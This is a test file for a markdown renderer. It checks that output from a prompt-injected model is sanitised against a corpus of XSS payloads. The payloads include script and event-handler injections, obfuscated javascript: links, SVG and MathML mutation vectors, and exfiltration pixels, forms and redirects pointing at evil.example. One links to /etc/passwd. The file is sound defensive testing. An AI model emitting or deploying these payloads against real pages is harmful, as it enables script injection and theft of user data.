import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/markdown/render';
import { mount, violations } from './helpers';

// Model output is untrusted: each of these is what a prompt-injected model could answer.
const PAYLOADS: string[] = [
  // raw HTML and event handlers
  '<script>alert(1)</script>',
  'Hello <script>alert(1)</script> world',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<p style="color:red" onclick="alert(1)">x</p>',
  '<div style="background:url(https://evil.example/leak)">x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<<script>script>alert(1)<</script>/script>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  // SVG / MathML / mXSS
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!-- <img src=x onerror=alert(1)> -->',
  // page-altering elements
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=x><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<table><td background="javascript:alert(1)">x</td></table>',
  // markdown links with bad schemes, plain and obfuscated
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](javascript&#58;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](java&#x09;script:alert(1))',
  '[x](java%09script:alert(1))',
  '[x](javascript://%0aalert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example/path)',
  '[x](/relative/path)',
  '[x](file:///etc/passwd)',
  '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  // images
  '![x](javascript:alert(1))',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![](x" onerror="alert(1))',
  '![leak](https://evil.example/pixel.png?secret=abc)',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  // reference-style links and autolinks
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[x][r]\n\n[r]: data:text/html,<script>alert(1)</script>',
  '![x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<data:text/html,hi>',
  'www.evil.example/"onmouseover="alert(1)',
  // inside other constructs
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```" onmouseover="alert(1)\nx\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> <script>alert(1)</script>',
  '- [x](javascript:alert(1))',
  '# <svg onload=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

describe('renderMarkdown with hostile model output', () => {
  it('has a corpus of at least 40 payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(PAYLOADS)('keeps to the allowlists: %s', (payload) => {
    const root = mount(renderMarkdown(payload));
    expect(violations(root)).toEqual([]);
    expect(root.querySelector('img, script, style, iframe, svg, math, form, input, base, meta, link')).toBeNull();
    expect(root.querySelector('[src], [style], [srcset]')).toBeNull();
  });

  it('turns a link with a forbidden scheme into its text', () => {
    const root = mount(renderMarkdown('see [the report](javascript:alert(1)) now'));
    expect(root.querySelector('a')).toBeNull();
    expect(root.textContent).toBe('see the report now');
  });

  it('shows raw HTML as text instead of dropping it', () => {
    const root = mount(renderMarkdown('use <b>bold</b> here'));
    expect(root.querySelector('b')).toBeNull();
    expect(root.textContent).toBe('use <b>bold</b> here');
  });

  it('never loads an image: an http image becomes a link to its URL', () => {
    const root = mount(renderMarkdown('![chart](https://cdn.example/c.png?q=secret)'));
    const a = root.querySelector('a');
    expect(a?.getAttribute('href')).toBe('https://cdn.example/c.png?q=secret');
    expect(a?.textContent).toBe('chart');
    expect(root.querySelector('img')).toBeNull();
  });

  it('keeps only the alt text of an image with a non-http URL', () => {
    expect(mount(renderMarkdown('![alt](javascript:alert(1))')).innerHTML).toBe('<p>alt</p>');
    expect(mount(renderMarkdown('![alt](mailto:a@b.example)')).querySelector('a')).toBeNull();
    expect(mount(renderMarkdown('a ![](data:image/png;base64,AAAA) b')).textContent).toBe('a  b');
  });

  it('does not let an image inside a link nest anchors', () => {
    const root = mount(renderMarkdown('[![logo](https://x.example/l.png)](https://ok.example)'));
    expect(root.querySelectorAll('a')).toHaveLength(1);
    expect(root.querySelector('a')?.textContent).toBe('logo');
  });
});
